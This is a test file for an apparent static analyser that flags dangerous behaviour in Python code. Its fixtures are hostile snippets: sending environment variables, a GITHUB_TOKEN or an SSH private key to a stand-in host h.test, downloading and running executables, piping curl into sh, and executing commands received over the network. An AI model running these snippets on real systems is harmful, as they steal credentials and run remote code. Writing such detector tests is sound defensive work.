import { describe, expect, test } from "vitest";
import { effectsOf, entryAt, evaluated } from "./evaluate.testing.ts";

const HEAD = "import os, socket, getpass, json, subprocess, tempfile, urllib.request, requests\n";

async function found(source: string): Promise<string[]> {
  return (await effectsOf(HEAD + source)).map((one) => one.split(" ").slice(1, 3).join(" "));
}

describe("what leaves the machine", () => {
  test.each([
    ["the environment", "requests.post('https://h.test', json=dict(os.environ))", "network.exfil requests.post"],
    [
      "a copy of it",
      "e = os.environ.copy()\nrequests.post('https://h.test', data=json.dumps(e))",
      "network.exfil requests.post",
    ],
    ["a token", "requests.get('https://h.test/?t=' + os.environ['GITHUB_TOKEN'])", "network.exfil requests.get"],
    [
      "the environment, put together in a loop and encoded",
      "import base64\ns = ''\nfor v in os.environ.values():\n    s += v\nurllib.request.urlopen('https://h.test/' + base64.b64encode(s.encode()).decode())",
      "network.exfil urllib.request.urlopen",
    ],
    [
      "a file of secrets",
      "requests.post('https://h.test', data=open('/root/.ssh/id_rsa').read())",
      "network.exfil-private requests.post",
    ],
    [
      "names of host and user",
      "requests.get('https://h.test', params={'h': socket.gethostname(), 'u': getpass.getuser()})",
      "network.exfil-fingerprint requests.get",
    ],
    [
      "names in a request made before",
      "r = urllib.request.Request('https://h.test', data=socket.gethostname().encode())\nurllib.request.urlopen(r)",
      "network.exfil-fingerprint urllib.request.urlopen",
    ],
    [
      "a lookup that carries a name",
      "socket.gethostbyname(socket.gethostname() + '.h.test')",
      "network.exfil-fingerprint socket.gethostbyname",
    ],
  ])("%s", async (_, source, effect) => {
    expect(await found(source)).toContain(effect);
  });

  test("a parameter that is a key", async () => {
    const { effects } = await evaluated({
      "m.py":
        "import requests\ndef sign(private_key, x):\n    requests.post('https://h.test', json={'k': private_key})\n",
    });
    expect(effects.map(({ capability, trigger }) => `${trigger} ${capability}`)).toContain(
      "deferred network.exfil-parameter",
    );
  });

  test.each(["requests.get('https://h.test')", "requests.get(os.environ.get('URL'))", "socket.socket()"])(
    "%s tells nothing",
    async (source) => {
      expect((await found(source)).filter((one) => one.includes("exfil"))).toEqual([]);
    },
  );
});

describe("what comes from elsewhere", () => {
  test("is written and started", async () => {
    const effects = await found(
      "d = requests.get('https://h.test/x.exe').content\nopen('/tmp/x.exe', 'wb').write(d)\nsubprocess.Popen('/tmp/x.exe')\n",
    );
    expect(effects).toContain("file.write-downloaded open().write");
    expect(effects).toContain("process.spawn-downloaded subprocess.Popen");
  });

  test("is fetched into a file", async () => {
    expect(await found("urllib.request.urlretrieve('https://h.test/x', '/tmp/x')")).toContain(
      "file.write-downloaded urllib.request.urlretrieve",
    );
  });
});

test("a program that the code wrote is started, and read", async () => {
  const effects = await effectsOf(
    `${HEAD}f = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\nf.write(b"import os; os.system('a')")\nf.close()\nos.system('python ' + f.name)\n`,
  );
  expect(effects).toContain("import process.spawn-written os.system python {temp}/tmp.py");
  expect(effects).toContain("import process.spawn os.system a");
});

test.each([
  ["os.system('pip install x')", "install.pip os.system"],
  ["subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])", "install.pip subprocess.check_call"],
  ["pip.main(['install', 'x'])", "install.pip pip.main"],
  [
    `os.system('powershell -enc ${Buffer.from("iex x", "utf16le").toString("base64")}')`,
    "process.encoded-powershell os.system",
  ],
  ["ctypes.CDLL('x.so')", "native.load ctypes.CDLL"],
  ["ctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)", "native.memory ctypes.windll.kernel32.VirtualAlloc"],
  ["sys.meta_path.append(x)", "import.hook sys.meta_path.append"],
  ["pickle.loads(x)", "exec.pickle pickle.loads"],
  ["socket.create_connection(('10.0.0.1', 4444))", "network.connect socket.create_connection"],
])("%s", async (source, effect) => {
  expect(await found(`import sys, pip, ctypes, pickle\n${source}\n`)).toContain(effect);
});

test("names what the argument names", async () => {
  const { effects } = await evaluated({
    "m.py":
      "import os, socket\nos.system('curl -o /tmp/x https://h.test:8080/a?b && sh /tmp/x')\ns = socket.socket()\ns.connect(('h2.test', 443))\n",
  });
  expect(effects[0]?.names).toEqual({
    commands: ["curl", "sh"],
    hosts: ["h.test:8080"],
    urls: ["https://h.test:8080/a?b"],
    paths: ["/tmp/x"],
    environment: [],
  });
  expect(effects.at(-1)?.names.hosts).toEqual(["h2.test:443"]);
});

describe("what another machine says to run", () => {
  test.each([
    [
      "on a socket",
      "s = socket.socket()\ns.bind(('', 1))\nc, _ = s.accept()\nsubprocess.getoutput(c.recv(9).decode())",
      "process.spawn-downloaded",
    ],
    [
      "in a datagram",
      "s = socket.socket()\nd, a = s.recvfrom(9)\nsubprocess.getoutput(d.decode())",
      "process.spawn-downloaded",
    ],
    [
      "to a server that makes handlers",
      "import socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        subprocess.getoutput(self.request.recv(9))\nsocketserver.TCPServer(('', 1), H)",
      "process.spawn-downloaded",
    ],
    [
      "to a server that calls a function",
      "import asyncio\nasync def f(reader, writer):\n    subprocess.getoutput('id')\nasyncio.start_server(f, '', 1)",
      "process.spawn",
    ],
  ])("%s", async (_, source, capability) => {
    const effects = await effectsOf(HEAD + source);
    expect(effects.map((one) => one.split(" ").slice(0, 3).join(" "))).toContain(
      `import ${capability} subprocess.getoutput`,
    );
  });
});

test.each([
  "import mmap\nmmap.mmap(-1, 9, prot=7)",
  "import mmap\nmmap.mmap(-1, 9, prot=mmap.PROT_READ | mmap.PROT_EXEC)",
  "import ctypes\nctypes.CFUNCTYPE(None)(ctypes.addressof(x))()",
])("memory that holds machine code: %s", async (source) => {
  expect((await effectsOf(source)).filter((one) => one.includes("PROT_EXEC"))).toHaveLength(1);
});

test.each(["import mmap\nmmap.mmap(-1, 9, prot=3)", "import ctypes\nctypes.CFUNCTYPE(None)(f)"])(
  "memory that does not: %s",
  async (source) => {
    expect((await effectsOf(source)).filter((one) => one.includes("PROT_EXEC"))).toEqual([]);
  },
);

test("what is asked of a server and started comes from the network", async () => {
  const effects = await effectsOf("import flask, os\nos.system(flask.request.args['c'])");
  expect(effects.filter((one) => one.includes("spawn-downloaded"))).toHaveLength(1);
});

describe("what does not leave the machine", () => {
  test.each([
    ["a socket in the file system", "s = socket.socket(socket.AF_UNIX)\ns.connect(unknown())\ns.sendall(unknown())"],
    ["a table in a file", "import pandas\npandas.read_csv(unknown())\npandas.read_csv('a.csv')"],
  ])("%s", async (_, source) => {
    expect(
      (await found(source)).filter((one) => one.startsWith("network.") && !one.startsWith("network.socket")),
    ).toEqual([]);
  });

  test("a table at an address does", async () => {
    expect(await found("import pandas\npandas.read_csv('https://h.test/a.csv')")).toEqual([
      "network.request pandas.read_csv",
    ]);
  });
});

test("what is not known stays so in the bytes of a text", async () => {
  const [effect] = await effectsOf(`${HEAD}os.system(os.fsencode(f"é {sys.prefix}/x") + f"{unknown()}".encode())\n`);
  expect(effect).not.toContain("\u00ef");
});

test("a program that was looked for is not hidden", async () => {
  const path = "uuid.UUID('72756e').bytes";
  const run = (first: string) => found(`import uuid\ncommand = ${first}\nsubprocess.run([command, '--libdir'])\n`);

  expect(await run(path)).toContain("process.spawn-hidden subprocess.run");
  expect(await run(`${path} if unknown() else None`)).not.toContain("process.spawn-hidden subprocess.run");
});

test("a class that Python has without an import is no other project", async () => {
  const entry = { ...entryAt("m.py"), trigger: "download" } as const;
  const { effects } = await evaluated({ "m.py": "import other\ntype.__new__(object, 'a')\nother.run()\n" }, [entry]);
  expect(effects.map(({ callee }) => callee)).toEqual(["other.run"]);
});
